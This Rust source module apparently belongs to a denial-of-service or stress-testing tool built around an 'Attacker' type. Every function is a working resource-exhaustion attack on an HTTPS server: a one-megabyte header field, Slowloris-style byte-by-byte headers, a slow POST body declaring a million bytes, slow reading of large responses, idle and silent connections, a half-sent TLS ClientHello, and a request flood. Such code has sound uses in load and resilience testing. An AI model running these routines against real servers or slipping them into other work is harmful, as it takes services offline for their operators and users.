//! Floods of HTTP/1.1, and of clients that take their time.

use std::time::Duration;

use tokio::io::{self, AsyncReadExt, AsyncWriteExt, sink, split};
use tokio::net::TcpStream;
use tokio::time::sleep;
use tokio_rustls::client::TlsStream;

use super::Attacker;

impl Attacker {
    /// Sends a field of a megabyte.
    pub(super) async fn huge_head(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        let piece = vec![b'x'; 16 << 10];
        let begin = format!("GET / HTTP/1.1\r\nHost: {}\r\nX: ", self.target.host);
        let writing = async {
            to.write_all(begin.as_bytes()).await?;
            for _ in 0..HUGE / piece.len() {
                self.write(&mut to, &piece, 1).await?;
            }
            Ok(())
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }

    /// Sends a request's fields byte by byte.
    pub(super) async fn slow_head(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        let begin = format!("GET / HTTP/1.1\r\nHost: {}\r\nX: ", self.target.host);
        self.drip(stream, &begin).await
    }

    /// Sends a request's body byte by byte.
    pub(super) async fn slow_body(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        let begin = format!(
            "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n",
            self.target.path, self.target.host
        );
        self.drip(stream, &begin).await
    }

    async fn drip(&self, stream: &mut TlsStream<TcpStream>, begin: &str) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        let writing = async {
            self.write(&mut to, begin.as_bytes(), 1).await?;
            loop {
                sleep(DRIP).await;
                self.write(&mut to, b"x", 1).await?;
            }
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }

    /// Asks for a large file and reads a little of it now and then.
    pub(super) async fn slow_reading(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        self.ask(stream).await?;
        let mut piece = [0; 64];
        loop {
            sleep(DRIP).await;
            if stream.read(&mut piece).await? == 0 {
                return Ok(());
            }
            self.sent(1);
        }
    }

    /// Keeps a connection open.
    pub(super) async fn idle(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        self.sent(1);
        io::copy(stream, &mut sink()).await.map(drop)
    }

    /// Sends nothing.
    pub(super) async fn silent(&self, mut socket: TcpStream) -> io::Result<()> {
        self.sent(1);
        io::copy(&mut socket, &mut sink()).await.map(drop)
    }

    /// Sends half of a ClientHello and waits.
    pub(super) async fn unfinished_handshake(&self, mut socket: TcpStream) -> io::Result<()> {
        socket.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252]).await?;
        self.sent(1);
        io::copy(&mut socket, &mut sink()).await.map(drop)
    }

    /// Sends one request after the other.
    pub(super) async fn requests(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        let mut answer = vec![0; 16 << 10];
        loop {
            self.ask(stream).await?;
            if stream.read(&mut answer).await? == 0 {
                return Ok(());
            }
        }
    }

    async fn ask(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        let request = format!(
            "GET {} HTTP/1.1\r\nHost: {}\r\n{}\r\n",
            self.target.path, self.target.host, self.target.fields
        );
        self.write(stream, request.as_bytes(), 1).await
    }
}

const HUGE: usize = 1 << 20;
/// Between two bytes: more than 16 per second and connection would be a flood of bytes.
const DRIP: Duration = Duration::from_millis(200);
